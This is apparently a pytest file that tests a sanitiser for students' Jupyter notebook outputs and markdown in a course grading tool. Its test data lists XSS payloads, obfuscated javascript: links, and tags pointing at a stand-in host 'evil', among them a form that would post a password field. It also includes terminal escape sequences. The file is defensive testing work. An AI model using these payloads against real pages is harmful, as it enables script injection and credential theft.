"""Students' outputs lose what could run, and keep what shows something."""

from __future__ import annotations

import re

import mistune
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from course.grading.out.harmless import clean, disarmed

PNG = "iVBORw0KGgo="
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<style>@import 'http://evil';</style>",
    "<link rel=stylesheet href=http://evil>",
    "<meta http-equiv=refresh content='0;url=http://evil'>",
    "<img src='http://evil/track.png'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<form action=http://evil><input name=password></form>",
    "<div style='position:fixed;background:url(http://evil)'>x</div>",
    "<object data=http://evil></object><embed src=http://evil>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<base href=http://evil>",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]
NOWHERE = ("script", "onerror", "onload", "evil", "svg", "iframe", "style", "form", "text/html")


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_runs_and_nothing_is_fetched(html: str) -> None:
    cleaned = clean(html)
    tags = [part.partition(">")[0].lower() for part in cleaned.split("<")[1:]]
    assert not [word for tag in tags for word in NOWHERE if word in tag], cleaned


@pytest.mark.parametrize(
    "html",
    [
        "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>",
        f'<img alt="a curve" src="data:image/png;base64,{PNG}">',
        "<p>a <strong>b</strong> <code>c</code></p>",
    ],
)
def test_what_shows_something_stays(html: str) -> None:
    assert clean(html) == html


@pytest.mark.parametrize(
    "text",
    ["".join(f"<b a={k}>" for k in range(200_000)), "<div>" * 200_000],
)
def test_many_tags_are_text(text: str) -> None:
    """Cleaned, they would take hours."""
    notebook = new_notebook(cells=[new_markdown_cell(text) for _ in range(3)])
    assert "<" not in disarmed(notebook).cells[0].source
    few = new_notebook(cells=[new_markdown_cell("<b>" * 4_000) for _ in range(1_000)])
    assert "<" not in disarmed(few).cells[-1].source


@pytest.mark.parametrize(
    "link",
    [
        "[x](javascript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x][1]\n\n[1]: JavaScript:alert(1)",
        "[x](<javascript:alert(1)>)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "<javascript:alert(1)>",
    ],
)
def test_links_that_run_something_are_no_links(link: str) -> None:
    source = disarmed(new_notebook(cells=[new_markdown_cell(link)])).cells[0].source
    as_jupyter = mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True)
    shown = mistune.create_markdown(renderer=as_jupyter)(source)
    assert not re.search(r'href="[^"]', shown), shown


def test_other_links_stay() -> None:
    link = "[the lecture](https://example.org/xor) on data"
    assert disarmed(new_notebook(cells=[new_markdown_cell(link)])).cells[0].source == link


def test_a_notebook_loses_every_other_kind_of_output() -> None:
    data = {
        "text/plain": "x",
        "text/html": "<b>x</b><script>alert(1)</script>",
        "application/javascript": "alert(1)",
        "image/svg+xml": "<svg onload=alert(1)>",
        "application/vnd.jupyter.widget-view+json": {"model_id": "1"},
    }
    notebook = new_notebook(
        cells=[
            new_markdown_cell("**b** <script>alert(1)</script>", attachments={"a": {}}),
            new_code_cell("a < b", outputs=[new_output("display_data", data=data)]),
        ]
    )
    safe = disarmed(notebook)
    assert safe.cells[1].outputs[0].data == {"text/plain": "x", "text/html": "<b>x</b>"}
    assert safe.cells[1].source == "a < b"
    assert "script" not in safe.cells[0].source
    assert "attachments" not in safe.cells[0]
    assert notebook.cells[1].outputs[0].data == data


def test_no_control_character_stays() -> None:
    """A terminal obeys them, some readers end at NUL, and they may hide what a text says."""
    bad = "a\x00b\x1b[31mc\x1b]0;title\x07\x08d\x7f\x9b1m\te\n"
    outputs = [
        new_output("stream", text=bad),
        new_output("error", ename=bad, evalue=bad, traceback=[bad]),
        new_output("display_data", data={"text/plain": bad, "text/html": bad}),
    ]
    cells = [new_code_cell(bad, outputs=outputs), new_markdown_cell(bad)]
    shown = str(disarmed(new_notebook(cells=cells)).cells)
    assert "\\x" not in shown
    assert "\\t" in shown and "\\n" in shown
